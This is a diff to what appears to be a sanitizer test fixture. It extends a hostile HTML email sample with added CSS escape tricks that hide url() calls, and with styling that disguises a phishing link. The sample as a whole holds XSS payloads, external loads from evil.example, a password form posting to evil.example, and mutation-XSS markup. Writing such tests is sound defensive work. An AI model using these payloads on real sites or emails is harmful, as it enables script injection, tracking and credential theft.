@@ -61,7 +61,9 @@ const HOSTILE = `<div id="all">Dear customer,
 <svg onload="parent.hacked = 3"><script>parent.hacked = 4</script><use href="data:image/svg+xml,x"></use></svg>
 <math><mtext><table><mglyph><style><img src=x onerror="parent.hacked = 5"></style></mglyph></table></mtext></math>
 <style>@import url(https://evil.example/a.css); p { background: url(https://evil.example/b.png); position: fixed }
-@font-face { font-family: x; src: url(https://evil.example/c.woff) } a::after { content: "bank.example" }</style>
+@font-face { font-family: x; src: url(https://evil.example/c.woff) } a::after { content: "bank.example" }
+:root { --a: \\75 rl(https://evil.example/v.png) } td { background: var(--a); background-image: var(--b, \\75 rl(https://evil.example/w.png)) }
+a + span { color: #ffffff !important; background: #ffffff !important; display: none !important }</style>
 <link rel="stylesheet" href="https://evil.example/d.css"><meta http-equiv="refresh" content="0;url=https://evil.example/e"><base href="https://evil.example/">
 <form action="https://evil.example/f"><input name="password" type="password"><button formaction="https://evil.example/g">Log in</button></form>
 <iframe src="https://evil.example/h"></iframe><object data="https://evil.example/i"></object><embed src="https://evil.example/j">
@@ -70,7 +72,8 @@ const HOSTILE = `<div id="all">Dear customer,
 <table background="https://evil.example/o.png"><tr><td bgcolor="red; list-style-image: url(https://evil.example/u.png); position: fixed">One</td></tr></table>
 <img src="https://evil.example/q.png" srcset="https://evil.example/r.png 2x"><img src="//evil.example/s.gif" width="1" height="1">
 <a href="javascript:parent.hacked=6">Click</a> <a href="data:text/html,<script>parent.hacked=7</script>">here</a>
-<a href="https://evil.example/login" target="_top" ping="https://evil.example/t">https://bank.example/login</a>
+<div style="-webkit-text-fill-color: transparent; color: #ffffff; letter-spacing: -1em; line-height: 0">
+<a href="https://evil.example/login" target="_top" ping="https://evil.example/t">https://bank.example/login</a></div>
 <a href="https://museum.example/" onclick="parent.hacked = 8">the museum</a>
 <details ontoggle="parent.hacked = 9" open><summary>More</summary>Text</details>
 <template><img src=x onerror="parent.hacked = 10"></template><noscript><p title="</noscript><img src=x onerror=parent.hacked=11>"></p></noscript>
